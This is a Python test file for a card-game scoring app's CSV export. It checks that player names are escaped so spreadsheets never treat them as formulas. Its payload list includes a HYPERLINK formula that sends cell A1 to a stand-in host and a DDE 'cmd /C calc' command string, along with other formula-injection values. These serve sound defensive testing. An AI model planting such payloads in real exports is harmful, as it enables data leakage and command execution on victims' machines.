"""Every CSV cell scorepad writes is safe: a name like "=HYPERLINK(...)" or "@SUM(...)" is
never run by a spreadsheet as a formula, in an evening's CSV and in the tournament's CSV for
German Excel alike (one function, scorepad/csvcells.py, writes every cell)."""

from __future__ import annotations

import csv
import io

import pytest

from scorepad.csvcells import Figure, csv_cell

pytestmark = pytest.mark.store

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1;"Klick")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
           "x;=2+5", "Hias,=1+1"]
FIELD = ["Alois", "Anderl", "Burgi", "Cilli", "Done", "Fanny", "Franzi", "Girgl"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str, sep: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=sep))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_cell_never_starts_a_formula_whichever_separator_splits_it(name):
    line = csv_cell(name)
    for sep in ";,":
        for cell in cells(line, sep)[0]:
            assert not cell.lstrip(" ").startswith(FORMULA_START), (sep, cell)


def test_a_number_stays_a_number():
    values = (-5, Figure("+15"), Figure("-1,20"), Figure("1.234,50"), None)
    assert cells(";".join(csv_cell(v, ";") for v in values), ";") == [["-5", "+15", "-1,20", "1.234,50", ""]]


def test_a_name_is_text_also_where_it_looks_like_a_number():
    assert csv_cell("-1") == "'-1" and csv_cell(Figure("=1+1")) == "'=1+1"


def test_the_tournaments_csv_for_german_excel_writes_no_formula(app):
    field = FIELD[:2] + ['=HYPERLINK("http://x.example";"Preis")', "@SUM(1+1)"] + FIELD[4:]
    tid = app.new_tournament("Kirta", "preisschafkopf-5-10-15", 1, 1, field, seed="1").id
    app.draw_round(tid)
    rows = cells(app.export_tournament(tid, "csv-de"), ";")
    names = sorted(row[2] for row in rows[1:])
    assert names[:2] == ["'=HYPERLINK(\"http://x.example\";\"Preis\")", "'@SUM(1+1)"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@")), cell
